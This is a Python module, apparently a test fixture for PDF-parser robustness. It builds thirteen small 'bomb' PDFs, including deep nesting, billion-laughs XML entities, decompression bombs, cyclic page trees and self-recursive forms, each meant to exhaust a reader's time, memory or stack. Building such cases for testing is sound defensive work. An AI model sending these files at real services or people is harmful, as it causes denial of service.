"""Bombs: small PDFs made to exhaust whoever reads them: time, memory or the stack. Each claims to be one page."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Mapping

_MEGABYTE = 1 << 20
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>"
_CONTENT = b"<< /Length 8 >>\nstream\n0 0 m S \nendstream"


def nested_arrays() -> bytes:
    """An array in an array, 100,000 deep."""
    return _pdf({5: b"[" * 100_000 + b"]" * 100_000}, catalog=b"/Deep 5 0 R")


def nested_dictionaries() -> bytes:
    """A dictionary in a dictionary, 100,000 deep, in the catalogue itself."""
    return _pdf({}, catalog=b"/Deep " + b"<< /A " * 100_000 + b"1" + b" >>" * 100_000)


def metadata_of_200_megabytes() -> bytes:
    """200 MB of metadata in 200 kB."""
    begin = b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><!--'
    packed = _deflated(begin, b" " * _MEGABYTE, 200, b"--></x:xmpmeta>")
    return _pdf({5: _stream(b"/Type /Metadata /Subtype /XML /Filter /FlateDecode", packed)}, catalog=b"/Metadata 5 0 R")


def billion_laughs() -> bytes:
    """Metadata whose entities would grow to 200 GB."""
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    said = f'<?xml version="1.0"?><!DOCTYPE x [{entities}]><x>&a11;</x>'.encode()
    return _pdf({5: _stream(b"/Type /Metadata /Subtype /XML", said)}, catalog=b"/Metadata 5 0 R")


def content_deflated_twice() -> bytes:
    """A page whose content unpacks to 1 GB, from a few kilobytes."""
    once = _deflated(b"", b"\0" * _MEGABYTE, 1024, b"")
    filters = b"/Filter [/FlateDecode /FlateDecode]"
    return _pdf({4: _stream(filters, zlib.compress(once, 9))})


def image_of_a_gigapixel() -> bytes:
    """An image of 40,000 by 40,000 points."""
    packed = _deflated(b"", b"\0" * _MEGABYTE, 1526, b"")
    image = b"/Type /XObject /Subtype /Image /Width 40000 /Height 40000 /BitsPerComponent 8 /ColorSpace /DeviceGray "
    return _pdf(
        {
            3: _PAGE.replace(b"<< >>", b"<< /XObject << /I 5 0 R >> >>"),
            4: _stream(b"", b"595 0 0 842 0 0 cm /I Do"),
            5: _stream(image + b"/Filter /FlateDecode", packed),
        }
    )


def page_tree_of_200_000() -> bytes:
    """200,000 pages, in object streams of a few kilobytes."""
    first, count, per_stream = 10, 200_000, 100_000
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
    kids = b" ".join(b"%d 0 R" % number for number in range(first, first + count))
    plain = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    plain[2] = _stream(
        b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
        zlib.compress(b"2 0 << /Type /Pages /Count %d /Kids [%s] >>" % (count, kids)),
    )
    packed = {2: (5, 0)}
    plain[5] = plain.pop(2)
    for stream, begin in enumerate(range(first, first + count, per_stream), start=6):
        numbers = range(begin, begin + per_stream)
        header = b" ".join(b"%d %d" % (number, place * len(page)) for place, number in enumerate(numbers)) + b" "
        body = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (per_stream, len(header))
        plain[stream] = _stream(body, zlib.compress(header + page * per_stream))
        packed.update({number: (stream, place) for place, number in enumerate(numbers)})
    return _pdf_with_streams(plain, packed)


def page_tree_10_000_deep() -> bytes:
    """A page under 10,000 nodes, each the only child of the one above."""
    depth, first = 10_000, 10
    nodes = {
        first + level: b"<< /Type /Pages /Count 1 /Parent %d 0 R /Kids [%d 0 R] >>"
        % (first + level - 1 if level else 2, first + level + 1 if level < depth - 1 else 3)
        for level in range(depth)
    }
    return _pdf({2: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % first, **nodes})


def page_tree_that_bites_its_tail() -> bytes:
    """A node of the page tree that is its own child."""
    return _pdf({2: b"<< /Type /Pages /Count 2 /Kids [3 0 R 2 0 R] >>"})


def endless_page() -> bytes:
    """A page of 350 by 350 kilometres."""
    return _pdf({3: _PAGE.replace(b"595 842", b"1000000000 1000000000")})


def form_that_draws_itself() -> bytes:
    """A form that draws itself twice, endlessly."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /F 5 0 R >> >>"
    return _pdf(
        {
            3: _PAGE.replace(b"<< >>", b"<< /XObject << /F 5 0 R >> >>"),
            4: _stream(b"", b"/F Do"),
            5: _stream(form, b"/F Do /F Do"),
        }
    )


def forms_that_double_40_times() -> bytes:
    """A form that draws another twice, which draws another twice, and so on: 10¹² lines."""
    levels = range(10, 50)
    forms = {
        level: _stream(
            b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]"
            + (b" /Resources << /XObject << /F %d 0 R >> >>" % (level + 1) if level < levels[-1] else b""),
            b"/F Do /F Do" if level < levels[-1] else b"0 0 m 9 9 l S",
        )
        for level in levels
    }
    page = _PAGE.replace(b"<< >>", b"<< /XObject << /F 10 0 R >> >>")
    return _pdf({3: page, 4: _stream(b"", b"/F Do"), **forms})


def length_that_is_its_own() -> bytes:
    """A stream whose length is the stream itself."""
    return _pdf({4: b"<< /Length 4 0 R >>\nstream\n0 0 m S \nendstream"})


BOMBS: Mapping[str, Callable[[], bytes]] = {
    make.__name__: make
    for make in (
        nested_arrays,
        nested_dictionaries,
        metadata_of_200_megabytes,
        billion_laughs,
        content_deflated_twice,
        image_of_a_gigapixel,
        page_tree_of_200_000,
        page_tree_10_000_deep,
        page_tree_that_bites_its_tail,
        endless_page,
        form_that_draws_itself,
        forms_that_double_40_times,
        length_that_is_its_own,
    )
}
"""By name; some take seconds to make."""


def _deflated(begin: bytes, block: bytes, times: int, end: bytes) -> bytes:
    """As zlib would write it, but the block is packed once: what it unpacks to takes no time to make."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    head = packer.compress(begin) + packer.flush(zlib.Z_FULL_FLUSH)
    body = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    check = zlib.adler32(begin)
    for _ in range(times):
        check = zlib.adler32(block, check)
    tail = packer.compress(end) + packer.flush()
    return b"\x78\xda" + head + body * times + tail + zlib.adler32(end, check).to_bytes(4, "big")


def _stream(entries: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def _written(objects: Mapping[int, bytes]) -> tuple[bytes, dict[int, int]]:
    """The objects one after the other, and where each begins."""
    parts, offsets, size = [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"], {}, 15
    for number, body in sorted(objects.items()):
        offsets[number] = size
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
        size += len(parts[-1])
    return b"".join(parts), offsets


def _pdf(objects: Mapping[int, bytes], *, catalog: bytes = b"") -> bytes:
    """One page (3) with a content (4), and these objects in their place or besides."""
    body, offsets = _written(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            3: _PAGE,
            4: _CONTENT,
            **objects,
        }
    )
    size = max(offsets) + 1
    rows = b"".join(
        b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
        for number in range(size)
    )
    trailer = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(body))
    return body + b"xref\n0 %d\n" % size + rows + trailer


def _pdf_with_streams(plain: Mapping[int, bytes], packed: Mapping[int, tuple[int, int]]) -> bytes:
    """A file with a cross-reference stream; `packed` says in which object stream, and where, the others lie."""
    body, offsets = _written(plain)
    table = max(plain) + 1
    offsets[table] = len(body)
    size = max(*packed, table) + 1
    rows = bytearray()
    for number in range(size):
        kind, second, third = 0, 0, 0
        if number in offsets:
            kind, second = 1, offsets[number]
        elif number in packed:
            kind, (second, third) = 2, packed[number]
        rows += kind.to_bytes(1, "big") + second.to_bytes(4, "big") + third.to_bytes(4, "big")
    entries = b"/Type /XRef /Size %d /Root 1 0 R /W [1 4 4] /Filter /FlateDecode" % size
    return (
        body
        + b"%d 0 obj\n%s\nendobj\n" % (table, _stream(entries, zlib.compress(bytes(rows))))
        + b"startxref\n%d\n%%%%EOF\n" % offsets[table]
    )
